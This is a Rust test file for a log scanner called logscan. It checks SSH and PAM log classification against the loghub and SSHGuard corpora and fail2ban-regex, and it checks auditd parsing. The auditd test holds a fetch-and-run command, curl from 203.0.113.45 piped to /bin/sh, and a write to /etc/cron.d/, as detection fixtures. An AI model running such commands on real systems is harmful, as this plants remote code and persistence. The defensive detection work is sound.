//! Real-world corpora: loghub's OpenSSH_2k.log (2,000 lines from one server,
//! each tagged with its message template) and SSHGuard's parser tests.

use std::collections::HashMap;
use std::path::PathBuf;

use logscan::classify::Mode;
use logscan::scan::{ScanOptions, Scanner};

fn corpus(rel: &str) -> PathBuf {
    PathBuf::from(concat!(env!("CARGO_MANIFEST_DIR"), "/../tests/corpus")).join(rel)
}

fn scanner(mode: Mode) -> Scanner {
    Scanner::new(ScanOptions {
        mode,
        now: 1_700_000_000,
        since: None,
        until: None,
    })
}

/// loghub's template ids and the event kind each must give.
fn expected_kind(template: &str) -> &'static str {
    match template {
        "E1" => "auth_success",
        "E2" => "preauth_disconnect",
        "E3" => "no_identification",
        "E4" | "E5" => "max_auth_exceeded",
        "E6" => "auth_fail_disconnect",
        "E7" => "no_auth_methods",
        "E8" | "E9" | "E10" | "E14" => "auth_failure",
        "E11" => "protocol_error",
        "E12" => "invalid_user_request",
        "E13" => "invalid_user",
        "E15" | "E16" | "E17" => "pam_more_failures",
        "E18" => "pam_max_retries",
        "E19" | "E20" => "pam_auth_failure",
        "E21" => "pam_check_pass",
        "E22" => "session_close",
        "E23" => "session_open",
        "E24" | "E25" | "E26" => "client_disconnect",
        "E27" => "reverse_mapping",
        other => panic!("unknown template {other}"),
    }
}

#[test]
fn every_loghub_openssh_line_is_understood_as_its_template() {
    let log = std::fs::read(corpus("loghub/OpenSSH_2k.log")).unwrap();
    let csv = std::fs::read_to_string(corpus("loghub/OpenSSH_2k.log_structured.csv")).unwrap();
    let templates: Vec<String> = csv
        .lines()
        .skip(1)
        .map(|l| {
            // The event id is the second-to-last field (the template may contain commas).
            let fields: Vec<&str> = l.rsplitn(3, ',').collect();
            let id = fields[1];
            if id.starts_with('E') {
                id.to_string()
            } else {
                // quoted template containing commas: find `,E<digits>,`
                let at = l.rfind(",E").unwrap();
                l[at + 1..].split(',').next().unwrap().to_string()
            }
        })
        .collect();
    let mut s = scanner(Mode::Normal);
    let mut wrong = Vec::new();
    let mut per_kind: HashMap<&str, u32> = HashMap::new();
    let mut n = 0;
    for (i, line) in log.split(|&b| b == b'\n').enumerate() {
        if line.is_empty() {
            continue;
        }
        n += 1;
        let want = expected_kind(&templates[i]);
        match s.scan_line(line) {
            Some(ev) if ev.kind.as_str() == want => *per_kind.entry(want).or_default() += 1,
            other => wrong.push(format!(
                "line {}: template {} wants {want}, got {:?}: {}",
                i + 1,
                templates[i],
                other.map(|e| e.kind.as_str()),
                String::from_utf8_lossy(line)
            )),
        }
    }
    assert_eq!(n, 2000);
    eprintln!(
        "loghub OpenSSH_2k: {}/{n} lines understood as their template",
        n - wrong.len()
    );
    for w in &wrong {
        eprintln!("  NOT UNDERSTOOD {w}");
    }
    assert!(wrong.is_empty());
}

/// SSHGuard's parser tests: `LINE`, `SERVICE ADDR FAMILY SCORE` or `*`, `M`.
fn sshguard_cases() -> Vec<(String, Option<(u32, String)>)> {
    let text = std::fs::read_to_string(corpus("sshguard/parser-tests.txt")).unwrap();
    let lines: Vec<&str> = text.lines().collect();
    let mut cases = Vec::new();
    let mut i = 0;
    while i + 2 < lines.len() {
        let (l, e, m) = (lines[i], lines[i + 1], lines[i + 2]);
        if l.starts_with('#') || l.trim().is_empty() || m != "M" {
            i += 1;
            continue;
        }
        let expect = if e.trim() == "*" {
            None
        } else {
            let f: Vec<&str> = e.split_whitespace().collect();
            Some((f[0].parse().unwrap(), f[1].to_string()))
        };
        cases.push((l.to_string(), expect));
        i += 3;
    }
    cases
}

#[test]
fn sshguard_cases_for_sshd_get_the_same_address_or_no_attack() {
    let cases = sshguard_cases();
    assert!(cases.len() > 100, "{}", cases.len());
    let (mut relevant, mut agree, mut wrong_addr) = (0, 0, Vec::new());
    let mut missed = Vec::new();
    let mut policy = Vec::new();
    for (line, expect) in &cases {
        let is_sshd = matches!(expect, Some((100, _))) || line.contains("sshd");
        if !is_sshd {
            continue;
        }
        relevant += 1;
        let mut s = scanner(Mode::Aggressive);
        let ev = s.scan_line(line.as_bytes());
        let got = ev
            .as_ref()
            .filter(|e| e.failure)
            .and_then(|e| e.ip.as_deref())
            .map(|b| String::from_utf8_lossy(b).into_owned());
        match (expect, got) {
            (Some((_, want)), Some(g)) if *want == g => agree += 1,
            (None, None) => agree += 1,
            (Some((_, want)), Some(g)) => {
                wrong_addr.push(format!("{line}: sshguard {want}, logscan {g}"))
            }
            // fail2ban counts a client's `3: Auth fail` and `14: No supported
            // authentication methods` disconnects (extra/aggressive); sshguard
            // does not. Same address, a different policy: listed, not failed.
            (None, Some(g))
                if ev.as_ref().is_some_and(|e| {
                    matches!(e.kind.as_str(), "auth_fail_disconnect" | "no_auth_methods")
                }) =>
            {
                policy.push(format!("{line}: logscan (as fail2ban) counts {g}"));
            }
            (None, Some(g)) => {
                wrong_addr.push(format!("{line}: sshguard no attack, logscan blames {g}"))
            }
            (Some((_, want)), None) => missed.push(format!(
                "{line}: sshguard {want}, logscan {:?}",
                ev.as_ref().map(|e| (e.kind.as_str(), e.failure))
            )),
        }
    }
    eprintln!(
        "sshguard parser tests (sshd): {agree}/{relevant} agree, {} differ by fail2ban's policy",
        policy.len()
    );
    for p in &policy {
        eprintln!("  POLICY {p}");
    }
    for m in &missed {
        eprintln!("  NO ATTACK SEEN {m}");
    }
    for w in &wrong_addr {
        eprintln!("  WRONG {w}");
    }
    assert!(
        wrong_addr.is_empty(),
        "logscan blamed an address sshguard did not"
    );
    assert!(
        missed.is_empty(),
        "sshd attacks sshguard sees that logscan misses"
    );
}

/// The installed fail2ban-regex (sshd filter, normal mode) on loghub's
/// 2,000 lines: every failure it finds, logscan finds at the same second for
/// the same address. logscan finds three more, each a known fail2ban gap:
/// the two `message repeated N times: [ Failed ... ]` lines, and the last
/// line of the file, which has no newline.
#[test]
fn agrees_with_fail2ban_regex_on_loghub() {
    let Some(f2b) =
        hardkit_core::oracle::oracle("agrees_with_fail2ban_regex_on_loghub", "fail2ban-regex")
    else {
        return;
    };
    let log = corpus("loghub/OpenSSH_2k.log");
    let out = std::process::Command::new(f2b)
        .env("TZ", "UTC")
        .args(["-o", "<time> <ip>"])
        .arg(&log)
        .arg("/etc/fail2ban/filter.d/sshd.conf")
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let mut theirs: HashMap<(i64, String), i32> = HashMap::new();
    for l in String::from_utf8_lossy(&out.stdout).lines() {
        let mut f = l.split_whitespace();
        let (Some(t), Some(ip)) = (f.next(), f.next()) else {
            continue;
        };
        let t: f64 = t.parse().unwrap();
        *theirs.entry((t as i64, ip.to_string())).or_default() += 1;
    }
    assert!(
        theirs.values().sum::<i32>() > 500,
        "fail2ban-regex found too little: {theirs:?}"
    );

    let out = std::process::Command::new(env!("CARGO_BIN_EXE_logscan"))
        .env("TZ", "UTC")
        .args(["--json"])
        .arg(&log)
        .output()
        .unwrap();
    let raw = std::fs::read(&log).unwrap();
    let lines: Vec<&[u8]> = raw.split(|&b| b == b'\n').collect();
    let mut failures = Vec::new();
    for l in String::from_utf8(out.stdout).unwrap().lines() {
        let Ok(ev) = hardkit_core::record::decode_strict::<logscan::event::EventRecord>(l) else {
            continue;
        };
        if ev.body.failure {
            failures.push(ev.body);
        }
    }
    let ours = failures.len();
    // fail2ban-regex prints the time and address of each failure, not the
    // line: match the lines it can see (not `message repeated`) first.
    failures.sort_by_key(|e| e.count > 1);
    let mut extra = Vec::new();
    for ev in failures {
        let t = logscan::time::parse_rfc3339(ev.time.as_deref().unwrap())
            .unwrap()
            .unix;
        let key = (t, ev.ip.clone().unwrap());
        match theirs.get_mut(&key) {
            Some(n) if *n > 0 => *n -= 1,
            _ => {
                extra.push(String::from_utf8_lossy(lines[ev.source.line as usize - 1]).into_owned())
            }
        }
    }
    let missed: Vec<_> = theirs.iter().filter(|(_, &n)| n > 0).collect();
    eprintln!(
        "fail2ban-regex on loghub: logscan {ours} failures, {} more than fail2ban-regex, {} missed",
        extra.len(),
        missed.len()
    );
    for e in &extra {
        eprintln!("  ONLY LOGSCAN {e}");
    }
    assert!(
        missed.is_empty(),
        "fail2ban-regex failures logscan missed: {missed:?}"
    );
    let last = String::from_utf8_lossy(lines.last().unwrap()).into_owned();
    for e in &extra {
        assert!(
            e.contains("message repeated") || *e == last,
            "unexplained extra failure: {e}"
        );
    }
    assert_eq!(extra.len(), 3);
}

/// loghub's Linux_2k.log has the PAM messages of an old Linux-PAM, with the
/// module in the tag (`sshd(pam_unix)[19939]: authentication failure; ...`):
/// every one of them is understood (as events; fail2ban no longer counts
/// that form as failures, see its pam-generic test log).
#[test]
fn old_linux_pam_lines_are_understood() {
    let log = std::fs::read(corpus("loghub/Linux_2k.log")).unwrap();
    let mut s = scanner(Mode::Normal);
    let (mut pam, mut understood, mut with_ip) = (0, 0, 0);
    for line in log.split(|&b| b == b'\n') {
        if logscan::text::find(line, b"(pam_unix)[").is_none() {
            continue;
        }
        pam += 1;
        match s.scan_line(line) {
            Some(ev) => {
                understood += 1;
                assert!(!ev.failure);
                if ev.kind.as_str() == "pam_auth_failure" && ev.ip.is_some() {
                    with_ip += 1;
                }
            }
            None => eprintln!("  NOT UNDERSTOOD {}", String::from_utf8_lossy(line)),
        }
    }
    eprintln!("loghub Linux_2k: {understood}/{pam} PAM lines understood, {with_ip} failures with an address");
    assert!(pam > 800);
    assert_eq!(understood, pam);
    assert!(with_ip > 400);
}

/// auditd's own logs, one per Debian release (tests/corpus/auditd): the
/// commands the account ran come back exactly, the refused create names its
/// directory, and the findings are the shell, the download and the writes.
#[test]
fn auditd_logs_of_each_release() {
    use logscan::audit_log::{findings, read};
    let want: Vec<Vec<&str>> = vec![
        vec!["/bin/echo", "a \"quoted\" arg", "two\nlines", "tab\there"],
        vec!["/bin/sh"],
        vec![
            "/bin/sh",
            "-c",
            "/usr/bin/curl -fsS --max-time 1 http://203.0.113.45/x.sh | /bin/sh",
        ],
        vec!["/bin/sh", "-c", "echo x >/srv/hkprobe/out"],
        vec![
            "/usr/bin/curl",
            "-fsS",
            "--max-time",
            "1",
            "http://203.0.113.45/x.sh",
        ],
        vec!["/usr/bin/touch", "/etc/cron.d/hk-probe"],
    ];
    for release in ["bookworm", "trixie", "forky"] {
        let bytes = std::fs::read(corpus(&format!("auditd/{release}.log"))).unwrap();
        let ev = read(&bytes[..], None).unwrap();
        let mut got: Vec<Vec<&str>> = ev
            .execs
            .iter()
            .map(|e| e.argv.iter().map(String::as_str).collect())
            .collect();
        got.sort();
        assert_eq!(got, want, "{release}");
        assert!(ev
            .execs
            .iter()
            .all(|e| e.account == "test-13489" && e.success));
        let writes: Vec<(&str, bool, Vec<&str>)> = ev
            .writes
            .iter()
            .map(|w| {
                (
                    w.exe.as_str(),
                    w.success,
                    w.paths.iter().map(String::as_str).collect(),
                )
            })
            .collect();
        assert_eq!(
            writes,
            [
                ("/usr/bin/touch", false, vec!["/etc/cron.d/"]),
                ("/usr/bin/dash", true, vec!["/srv/hkprobe/out"]),
            ],
            "{release}"
        );
        // (once per account and program, once per account and path)
        let ids: Vec<(String, String)> = findings(&ev, "audit.log")
            .into_iter()
            .map(|f| (f.id, f.title))
            .collect();
        let shown: Vec<(&str, &str)> = ids.iter().map(|(i, t)| (i.as_str(), t.as_str())).collect();
        assert_eq!(
            shown,
            [
                ("logscan/agent-shell", "test-13489 ran a shell: /bin/sh -c /usr/bin/curl -fsS --max-time 1 http://203.0.113.45/x.sh | /bin/sh"),
                ("logscan/agent-download", "test-13489 fetched something: /usr/bin/curl -fsS --max-time 1 http://203.0.113.45/x.sh"),
                ("logscan/agent-system-write", "test-13489 tried to write under a system path (refused): /etc/cron.d/"),
                ("logscan/agent-system-write", "test-13489 wrote under a system path: /srv/hkprobe/out"),
            ],
            "{release}"
        );
    }
}
